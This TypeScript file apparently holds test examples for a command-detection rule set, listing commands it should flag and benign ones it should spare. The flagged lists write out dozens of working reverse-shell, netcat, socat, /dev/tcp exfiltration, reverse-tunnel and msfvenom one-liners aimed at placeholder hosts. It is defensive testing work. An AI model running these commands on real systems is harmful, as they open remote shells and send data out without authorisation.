import type { Examples } from '../rule.ts';

export const connections: Readonly<Record<string, Examples>> = {
  'reverse-shell': {
    matches: [
      'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      "setsid sh -c 'sh <> /dev/udp/example.com/53 >&0'",
      "zsh -c 'zmodload zsh/net/tcp; ztcp example.com 1; zsh >&$REPLY 0>&$REPLY'",
    ],
    spares: [
      'bash -i > log',
      'ssh host uptime',
      'echo "bash -i >& /dev/tcp/203.0.113.9/1"',
      'bash build.sh > /dev/null',
    ],
  },
  'netcat-shell': {
    matches: [
      'nc -e /bin/sh 203.0.113.9 4444',
      'ncat --exec /bin/bash 203.0.113.9 4444',
      'mkfifo f; nc -lvpc sh 4444 < f',
      "ncat 203.0.113.9 4444 -c 'bash -i'",
      'busybox nc 203.0.113.9 4444 -e sh',
    ],
    spares: ['nc -z localhost 5432', 'nc -vz -w 5 db 3306', 'nc -c localhost 25 < mail.txt'],
  },
  'socat-shell': {
    matches: [
      'socat TCP:203.0.113.9:4444 EXEC:/bin/sh',
      "socat exec:'bash -li',pty,stderr tcp:203.0.113.9:4444",
      'socat UDP-LISTEN:53,fork SYSTEM:sh',
    ],
    spares: ['socat - TCP:localhost:5432', 'socat - EXEC:sh'],
  },
  'piped-shell': {
    matches: [
      'mkfifo f; cat f | sh -i 2>&1 | nc 203.0.113.9 4444 > f',
      'mknod p p; sh < p | telnet 203.0.113.9 23 > p',
      'mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect example.com:443 > s',
    ],
    spares: ['mkfifo f; gzip < f > log.gz & ./run > f', "bash -c 'echo ruok' | nc localhost 2181"],
  },
  'reverse-shell-in-code': {
    matches: [
      'python3 -c \'import socket,pty,os;s=socket.create_connection(("203.0.113.9",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
      'php -r \'$s=fsockopen("203.0.113.9",1);exec("/bin/sh -i <&3 >&3");\'',
      'node -e \'const s=require("net").connect(1,"203.0.113.9");const p=require("child_process").spawn("/bin/sh");s.pipe(p.stdin)\'',
      'ruby -rsocket -e \'c=TCPSocket.new("203.0.113.9",1);while l=c.gets;IO.popen(l){|i|c.print i.read}end\'',
    ],
    spares: [
      'python3 -c \'import socket; socket.create_connection(("db", 5432), 5)\'',
      'node -e \'require("net").connect(5432, "db").on("connect", () => process.exit(0))\'',
    ],
  },
  'raw-connection': {
    matches: [
      'exec 3<>/dev/tcp/example.com/80',
      'cat notes > /dev/tcp/203.0.113.9/99',
      '(date) >/dev/udp/$HOST/53',
    ],
    spares: [
      'timeout 5 bash -c "</dev/tcp/localhost/5432"',
      ': > /dev/tcp/127.0.0.1/80',
      'cat /dev/tcp/x/1',
      "timeout 30 bash -c 'until (echo > /dev/tcp/postgres/5432); do sleep 1; done'",
    ],
  },
  listen: {
    matches: ['nc -l -p 4444', 'ncat -lk 9999 > log'],
    spares: ['nc -w1 localhost 6379', 'nc -zv example.com 443'],
  },
  'listen-with-socat': {
    matches: ['socat TCP-LISTEN:2222,fork TCP:10.0.0.5:22', 'socat TCP-L:80 EXEC:./serve'],
    spares: ['socat TCP-LISTEN:2222,bind=127.0.0.1 TCP:db:5432', 'socat -h'],
  },
  'serve-login': {
    matches: ['telnetd -l /bin/login -p 2323', 'ttyd bash'],
    spares: ['telnet localhost 25', "echo 'telnetd'"],
  },
  'serve-system': {
    matches: [
      'python3 -m http.server --directory /',
      'cd ~ && python3 -m http.server',
      'php -S 0.0.0.0:80 -t /',
    ],
    spares: [
      'python3 -m http.server 8080 --directory dist',
      'php -S localhost:8000 -t public',
      'cd / && python3 -V',
    ],
  },
  tunnel: {
    matches: [
      'ssh -R 2222:localhost:22 example.com',
      'ssh -fNR 8022:localhost:22 example.com',
      'ssh example.com -R 2222:localhost:22',
      "ssh -o RemoteForward='2222 localhost:22' example.com",
    ],
    spares: [
      'ssh -L 5432:db:5432 -N example.com',
      'ssh example.com ls -R',
      'ssh -o RequestTTY=no example.com uptime',
    ],
  },
  'tunnel-service': {
    matches: ['ngrok tcp 22', 'cloudflared tunnel --url ssh://localhost:22'],
    spares: ['cloudflared --version', 'npm run ngrok'],
  },
  'shell-on-other-screen': {
    matches: ['xterm -display 203.0.113.9:1', 'xterm --display=203.0.113.9:1'],
    spares: ['xterm -e top', 'xvfb-run npm test'],
  },
  'attack-tool': {
    matches: ['msfvenom -p linux/x64/shell_reverse_tcp -o s', 'msfconsole -q -x run'],
    spares: ['grep msfvenom notes.md', 'npm run empire'],
  },
};
